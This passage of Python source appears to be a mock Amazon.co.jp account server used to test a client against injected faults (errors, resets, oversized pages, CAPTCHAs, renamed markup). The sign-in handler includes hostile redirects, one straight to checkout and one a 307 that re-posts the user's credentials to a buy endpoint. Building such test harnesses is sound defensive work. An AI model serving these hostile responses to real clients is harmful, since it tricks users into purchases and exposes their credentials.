        messages = [m for m in self.account.messages if folder in ("all", m.category)]
        html = self.render(
            "message-center.html",
            signed_in=True,
            messages=messages,
            folder=folder,
            tabs=list(_MESSAGE_TABS.items()),
            categories=_MESSAGE_TABS,
        )
        if "messages-unreadable" in self.faults:
            for old, new in (
                ('id="message-center"', 'id="mc-root-v2"'),
                ("mc-message-row", "mcx-item"),
                ("mc-message-list", "mcx-list"),
                ('<h1 class="a-spacing-medium">メッセージセンター</h1>', "<h1>メッセージ</h1>"),
            ):
                html = html.replace(old, new)
        return html


# Message Center tabs (issue 11): the folder parameter and the tab's label (a reconstruction)
_MESSAGE_TABS = {
    "all": "すべてのメッセージ",
    "purchase": "購入関連",
    "shipping": "配送関連",
    "account": "アカウント関連",
}


def _jadate(d: date) -> str:
    return f"{d.year}年{d.month}月{d.day}日"


def _jashort(d: date) -> str:
    return f"{d.month}月{d.day}日"


def _slashdate(d: date) -> str:
    return f"{d.year}/{d.month:02d}/{d.day:02d}"


def _yen(amount: int | None) -> str:
    return "" if amount is None else f"￥{amount:,}"


# --- account settings (issue 11): the console's JSON, field names as account-pages.md names them ---------------
_JSON = "application/json"


def _device_json(d: DemoDevice) -> dict[str, Any]:
    return {
        "deviceName": d.name,
        "deviceSerialNumber": d.serial,
        "deviceFamily": d.family,
        "deviceTypeID": d.type_id,
        "displayCategoryFriendlyName": d.category,
        "formattedLastRegisteredDate": _jadate(d.registered),
        "isDefaultDevice": d.default,
        "deviceAccountName": d.name,  # noise: fields a reader does not need
        "capabilities": ["KINDLE_BOOKS"] if d.family == "KINDLE" else ["KINDLE_BOOKS", "AUDIBLE"],
    }


def _content_json(c: DemoContent) -> dict[str, Any]:
    return {
        "asin": c.asin,
        "title": c.title,
        "authors": c.authors,
        "acquiredDate": _jadate(c.acquired.date()),
        "acquiredTime": int(c.acquired.timestamp() * 1000),
        "originType": c.origin,  # PURCHASE | FREE | KINDLE_UNLIMITED | PRIME_READING | RENTAL (reconstruction)
        "category": "KindleEBook",
        "productImage": f"https://m.media-amazon.com/images/I/{c.asin}._SY160_.jpg",
        "readStatus": "UNKNOWN",
        "isNellOptimized": True,
    }


class _QuietServer(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A client that went away mid-answer is part of the fault tests, not an error worth a traceback."""


class _Handler(BaseHTTPRequestHandler):
    site: ReplaySite
    _body: bytes = b""  # of the request being answered
    server_version = "Server"
    sys_version = ""

    def log_message(self, format: str, *args: Any) -> None:
        pass

    # --- plumbing ------------------------------------------------------------------------------------
    def _cookies(self) -> dict[str, str]:
        jar = SimpleCookie(self.headers.get("Cookie", ""))
        return {k: m.value for k, m in jar.items()}

    def _form(self) -> dict[str, str]:
        raw = self._body.decode("utf-8", "replace")
        return {k: v[0] for k, v in parse_qs(raw, keep_blank_values=True).items()}

    def _send(self, body: str, status: int = 200, cookies: tuple[str, ...] = (), ctype: str = "text/html") -> None:
        data = body.encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", f"{ctype}; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Cache-Control", "no-store")
        for c in cookies:
            self.send_header("Set-Cookie", c)
        self.end_headers()
        if self.command != "HEAD":
            try:
                self.wfile.write(data)
            except (BrokenPipeError, ConnectionResetError):  # the client gave up (a timeout test)
                self.close_connection = True

    def _redirect(self, location: str, cookies: tuple[str, ...] = ()) -> None:
        self.send_response(HTTPStatus.FOUND)
        self.send_header("Location", location)
        self.send_header("Content-Length", "0")
        for c in cookies:
            self.send_header("Set-Cookie", c)
        self.end_headers()

    def _signed_in(self) -> bool:
        return self.site.session_valid(self._cookies().get(SESSION_COOKIE))

    # --- dispatch ------------------------------------------------------------------------------------
    def do_HEAD(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:
        self._dispatch()

    def do_POST(self) -> None:
        self._dispatch()

    def do_PUT(self) -> None:
        self._dispatch()

    def do_DELETE(self) -> None:
        self._dispatch()

    def _dispatch(self) -> None:
        site = self.site
        length = int(self.headers.get("Content-Length") or 0)
        self._body = self.rfile.read(length) if length else b""
        head = self.requestline.encode("latin-1") + b"\r\n" + bytes(self.headers)
        site.record(self.command, self.path, head + self._body)
        url = urlsplit(self.path)
        path, query = url.path, {k: v[0] for k, v in parse_qs(url.query).items()}
        if any(path.startswith(p) for p in STATE_CHANGING):
            form = self._form() if self.command == "POST" else {}
            site.record_ledger(self.command, path, tuple(sorted({*form, *query})))
            if path.startswith("/cpe/yourpayments/settings/manageoneclick/update"):
                site.one_click_enabled = form.get("enabled") == "1"
            self._send(site.render("home.html", signed_in=True, heading="完了しました", body="設定を変更しました。"))
            return
        if path.startswith("/ap/"):
            self._signin(path, query)
            return
        if path == CONSOLE_AJAX:  # issue 11: the digital console's data endpoint (POST)
            self._console()
            return
        if self.command not in ("GET", "HEAD"):
            self._send("method not allowed", HTTPStatus.METHOD_NOT_ALLOWED, ctype="text/plain")
            return
        if path == "/gp/css/order-history":
            self._redirect("/your-orders/orders")
            return
        if any(path.startswith(p) for p in PROTECTED_PREFIXES) and not self._signed_in():
            if site.signed_out_page and path != "/gp/css/homepage.html":
                self._send(site.render("home.html", signed_in=False, heading="Amazon.co.jp", body=""))
                return
            params = {
                "openid.return_to": self.path,
                "openid.assoc_handle": "jpflex",
                "openid.mode": "checkid_setup",
                "openid.ns": "http://specs.openid.net/auth/2.0",
            }
            self._redirect("/ap/signin?" + urlencode(params))
            return
        captcha_now = "captcha-midrun" in site.faults and site.history_pages_served >= 1
        if captcha_now and path != "/errors/validateCaptcha":
            self._redirect("/errors/validateCaptcha")
            return
        if self._settings_page(path):  # issue 11: the account settings pages (re-authentication first)
            return
        if path == "/errors/validateCaptcha":
            self._send(site.render("captcha.html"))
        elif path == "/your-orders/orders":
            if self._order_history_fault():
                return
            self._order_history(query)
            site.history_pages_served += 1
            if "expire-midrun" in site.faults and site.history_pages_served == 1:
                site.expire_sessions()
        elif path.startswith("/gp/digital/your-account/order-summary.html"):
            self._order_summary(query)
        elif path == "/your-orders/order-details":
            self._order_details(query)
        elif path == "/cpe/yourpayments/settings/manageoneclick":
            html = site.render("one-click.html", signed_in=True, one_click_enabled=site.one_click_enabled)
            if "one-click-unreadable" in site.faults:
                html = html.replace("pmts-toggle-this-browser", "pmts-toggle-v2")
            self._send(html)
        elif path.rstrip("/") == "/gp/message":  # Message Center (issue 11, verify-email)
            self._send(site.message_center_html(query.get("folder", "all")))
        elif path.startswith(("/dp/", "/gp/product/")):
            asin = path.split("/")[2] if path.startswith("/dp/") else path.split("/")[3]
            self._product(asin)
        elif path == "/gp/css/homepage.html":
            self._send(site.render("home.html", signed_in=True, heading="アカウントサービス", body=""))
        elif path in ("/", "/ref=nav_logo", "/ref=ap_frn_logo"):
            self._send(site.render("home.html", signed_in=self._signed_in(), heading="Amazon.co.jp", body="デモ"))
        else:
            body = site.render("home.html", signed_in=self._signed_in(), heading="ページが見つかりません", body=path)
            self._send(body, HTTPStatus.NOT_FOUND)

    # --- sign-in ---------------------------------------------------------------------------------------
    def _signin(self, path: str, query: dict[str, str]) -> None:
        site, acct = self.site, self.site.account
        token = secrets.token_hex(8)
        if self._reauth(path, query, token):  # issue 11: a signed-in session asked for its password again
            return
        if path == "/ap/signin" and self.command in ("GET", "HEAD"):
            return_to = _local(query.get("openid.return_to", "/"))
            self._send(site.render("signin-email.html", error=None, action_token=token, return_to=return_to))
            return
        if path == "/ap/signin" and self.command == "POST":
            form = self._form()
            return_to = _local(form.get("openid.return_to", "/"))
            email = form.get("email", "")
            if "password" not in form:
                if email != acct.email:
                    err = "このEメールアドレスを持つアカウントが見つかりません"
                    self._send(site.render("signin-email.html", error=err, action_token=token, return_to=return_to))
                    return
                page = site.render(
                    "signin-password.html", error=None, email=email, action_token=token, return_to=return_to
                )
                self._send(page)
                return
            if email != acct.email or not hmac.compare_digest(form["password"], acct.password):
                page = site.render(
                    "signin-password.html",
                    error="パスワードが正しくありません",
                    email=email,
                    action_token=token,
                    return_to=return_to,
                )
                self._send(page)
                return
            stop_page: str | None = {
                "captcha": "captcha.html",
                "approval": "approval.html",
                "otp-sms": "cvf-code.html",
                "password-reset": "password-reset.html",
                "locked": "account-on-hold.html",
            }.get(site.signin_outcome)
            if stop_page:
                self._send(site.render(stop_page))
                return
            if "signin-302-buy" in site.attacks:  # a hostile answer: straight on to a checkout page
                self._redirect("/gp/buy/spc/handlers/display.html?referrer=signin")
                return
            if "signin-307" in site.faults:  # a hostile answer: re-send the credentials' POST to the buy endpoint
                self.send_response(HTTPStatus.TEMPORARY_REDIRECT)
                self.send_header("Location", "/checkout/entry/buynow")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            pending = secrets.token_hex(16)
            site._pending[pending] = return_to
            self._redirect(
                "/ap/mfa?" + urlencode({"openid.return_to": return_to}),
                cookies=(f"{PENDING_COOKIE}={pending}; Path=/ap; HttpOnly; SameSite=Lax",),
            )
            return
        if path == "/ap/mfa":
            pending = self._cookies().get(PENDING_COOKIE, "")
            pending_return = site._pending.get(pending)
            if pending_return is None:
                self._redirect("/ap/signin")
                return
            return_to = pending_return
            if self.command == "POST":
                form = self._form()
                if pyotp.TOTP(acct.totp_secret).verify(form.get("otpCode", "").strip(), valid_window=1):
                    del site._pending[pending]
                    session = site.issue_session()
                    cookies = (
                        f"{SESSION_COOKIE}={session}; Path=/; HttpOnly; SameSite=Lax",
                        f"{SESSION_COOKIE_2}={session}; Path=/; HttpOnly; SameSite=Lax",
                        f"{PENDING_COOKIE}=; Path=/ap; Max-Age=0",
                    )
                    self._redirect(return_to, cookies=cookies)
                    return
                err = "入力されたコードが無効です。もう一度お試しください。"
                self._send(site.render("mfa.html", error=err, action_token=token, return_to=return_to))
                return
            self._send(site.render("mfa.html", error=None, action_token=token, return_to=return_to))
            return
        self._send(
            site.render("home.html", signed_in=False, heading="ページが見つかりません", body=path),
            HTTPStatus.NOT_FOUND,
        )

    # --- account pages ---------------------------------------------------------------------------------
    def _order_history(self, query: dict[str, str]) -> None:
        try:
            start = max(0, int(query["page"]) * PAGE_SIZE if "page" in query else int(query.get("startIndex", "0")))
        except ValueError:
            start = 0
        html = self.site.order_history_html(query.get("timeFilter", "months-3"), start)
        if "huge-page" in self.site.faults:
            html = html.replace("</body>", "<!--" + "x" * 21_000_000 + "--></body>")
        self._send(html)

    def _order_history_fault(self) -> bool:
        """Serve the faults of the order-history page; True when one was served."""
        faults = self.site.faults
        query = parse_qs(urlsplit(self.path).query)
        second_page = query.get("page") == ["1"] or query.get("startIndex") == [str(PAGE_SIZE)]
        if (
            "orders-500" in faults
            or ("orders-500-once" in faults and self.site.history_failures == 0)
            or ("orders-page2-500" in faults and second_page)
        ):
            self.site.history_failures += 1
            self._send("<html><body><h1>500 Internal Server Error</h1></body></html>", HTTPStatus.INTERNAL_SERVER_ERROR)
            return True
        if "orders-slow" in faults:
            time.sleep(self.site.slow_s)
            return False
        if "orders-reset" in faults:
            self.close_connection = True
            self.connection.shutdown(2)
            return True
        return False

    def _digital_order(self, query: dict[str, str]) -> DemoOrder | None:
        order_id = query.get("orderID", "")
        return next((o for o in self.site.account.orders if o.id == order_id and o.digital), None)

    def _summary_template(self, order: DemoOrder) -> str:
        return self.site.summary_template or order.summary_template

    def _order_summary(self, query: dict[str, str]) -> None:
        """The legacy digital summary; an order shown in the unified template redirects there, as the
        site may do."""
        order = self._digital_order(query)
        if order is None:
            self._send(self.site.render("order-not-found.html", signed_in=True))
            return
        if self._summary_template(order) == "unified":
            self._redirect("/your-orders/order-details?" + urlencode({"orderID": order.id}))
            return
        self._send(self._unreadable(order, self.site.render("order-summary.html", signed_in=True, o=order)))

    def _order_details(self, query: dict[str, str]) -> None:
        """The unified order-details template (digital orders only: the demo's physical orders have none)."""
        order = self._digital_order(query)
        if order is None:
            self._send(self.site.render("order-not-found.html", signed_in=True))
            return
        self._send(self._unreadable(order, self.site.render("order-details.html", signed_in=True, o=order)))

    def _unreadable(self, order: DemoOrder, html: str) -> str:
        """The ``summary-unreadable`` fault: the story's order (the first digital order with 1-Click) in a
        layout no parser knows — its container and labels renamed."""
        story = next((o for o in self.site.account.orders if o.digital and o.one_click), None)
        if "summary-unreadable" not in self.site.faults or story is None or order.id != story.id:
            return html
        for old, new in (
            ("digitalOrderSummaryContainer", "dosContainerV3"),
            ('data-component="orderId"', 'data-component="orderRef"'),
            ('data-component="orderDate"', 'data-component="orderWhen"'),
            ("注文番号", "ご注文ID"),
            ("デジタル注文", "ご注文日"),
        ):
            html = html.replace(old, new)
        return html

    def _product(self, asin: str) -> None:
        for o in self.site.account.orders:
            for it in o.items:
                if it.asin == asin:
                    self._send(
                        self.site.render(
                            "product.html",
                            signed_in=self._signed_in(),
                            title=it.title,
                            asin=asin,
                            price=o.total,
                        )
                    )
                    return
        self._send(
            self.site.render("home.html", signed_in=False, heading="ページが見つかりません", body=asin),
            HTTPStatus.NOT_FOUND,
        )

    # --- account settings (issue 11) ----------------------------------------------------------------------
    def _settings_page(self, path: str) -> bool:
        """Serve a settings page (the caller has checked the session); True when ``path`` is one. Login &
        Security and 2-step verification first ask for the password again when the sign-in is not recent."""
        site = self.site
        page = next((k for k, (p, _) in SETTINGS_TEMPLATES.items() if p.rstrip("/") == path.rstrip("/")), None)
        if page is None:
            return False
        cookies = self._cookies()
        session = cookies.get(SESSION_COOKIE, "")
        if (
            path.rstrip("/") in REAUTH_PATHS
            and site.reauth
            and not site.recently_authenticated(session, cookies.get(REAUTH_COOKIE))
        ):
            params = {
                "openid.pape.max_auth_age": "0",
                "openid.return_to": self.path,
                "openid.assoc_handle": "jpflex",
                "openid.mode": "checkid_setup",
                "openid.ns": "http://specs.openid.net/auth/2.0",
            }
            self._redirect("/ap/signin?" + urlencode(params))
            return True
        self._send(site.settings_html(page, session))
        return True

    def _reauth(self, path: str, query: dict[str, str], token: str) -> bool:
        """The password-only step a signed-in session gets (``openid.pape.max_auth_age=0``): the password page
        with the e-mail already known; its POST with the right password sets REAUTH_COOKIE and goes back to
        ``openid.return_to``. True when this request was one; anything else is normal sign-in."""
        site, acct = self.site, self.site.account
        if path != "/ap/signin" or not self._signed_in():
            return False
        form = self._form() if self.command == "POST" else {}
        if self.command in ("GET", "HEAD"):
            if query.get("openid.pape.max_auth_age") != "0":
                return False
            return_to = _local(query.get("openid.return_to", "/"))
        elif self.command == "POST" and form.get("openid.pape.max_auth_age") == "0" and "password" in form:
            return_to = _local(form.get("openid.return_to", "/"))
            if "reauth-captcha" in site.faults:
                self._send(site.render("captcha.html"))
                return True
            if form.get("email") == acct.email and hmac.compare_digest(form["password"], acct.password):
                cookie = f"{REAUTH_COOKIE}={site.issue_reauth()}; Path=/; HttpOnly; SameSite=Lax"
                self._redirect(return_to, cookies=(cookie,))
                return True
        else:
            return False
        error = "パスワードが正しくありません" if self.command == "POST" else None
        page = site.render(
            "signin-password.html", error=error, email=acct.email, action_token=token, return_to=return_to, reauth=True
        )
        self._send(page)
        return True

    def _console(self) -> None:
        """POST /hz/mycd/digital-console/ajax: the two read activities are answered (console_answer); any other
        activity is a state change and goes to the ledger first, whatever happens next."""
        site = self.site
        if self.command != "POST":
            self._send("method not allowed", HTTPStatus.METHOD_NOT_ALLOWED, ctype="text/plain")
            return
        form = self._form()
        activity = form.get("activity", "")
        if activity not in CONSOLE_READS:
            site.record_ledger(self.command, CONSOLE_AJAX, (f"activity={activity}", *sorted(set(form) - {"activity"})))
        if not self._signed_in():
            self._redirect("/ap/signin?" + urlencode({"openid.return_to": "/hz/mycd/digital-console/alldevices"}))
            return
        session = self._cookies().get(SESSION_COOKIE, "")
        if not hmac.compare_digest(form.get("csrfToken", ""), site.csrf_token(session)):
            body = json.dumps({"success": False, "error": "INVALID_CSRF_TOKEN"})
            self._send(body, HTTPStatus.FORBIDDEN, ctype=_JSON)
            return
        if activity not in CONSOLE_READS:
            self._send(json.dumps({"success": True, activity: {"success": True}}), ctype=_JSON)
            return
        try:
            activity_input = json.loads(form.get("activityInput") or "{}")
            if not isinstance(activity_input, dict):
                raise ValueError("activityInput is not an object")
            status, body, ctype = site.console_answer(activity, activity_input)
        except (ValueError, TypeError):
            self._send(json.dumps({"success": False, "error": "INVALID_INPUT"}), HTTPStatus.BAD_REQUEST, ctype=_JSON)
            return
        self._send(body, status, ctype=ctype)


def _local(url: str) -> str:
    """Only same-site paths are followed after sign-in."""
    parts = urlsplit(url)
    if parts.scheme or parts.netloc or not url.startswith("/"):
        return "/"
    return quote(url, safe="/?&=%:+,;@")


def _filter(orders: tuple[DemoOrder, ...], time_filter: str, as_of: date) -> list[DemoOrder]:
    if time_filter == "last30":
        since = as_of - timedelta(days=30)
        return [o for o in orders if o.date >= since]
    if time_filter.startswith("year-") and time_filter[5:].isdigit():
        return [o for o in orders if o.date.year == int(time_filter[5:])]
    since = as_of - timedelta(days=92)
    return [o for o in orders if o.date >= since]
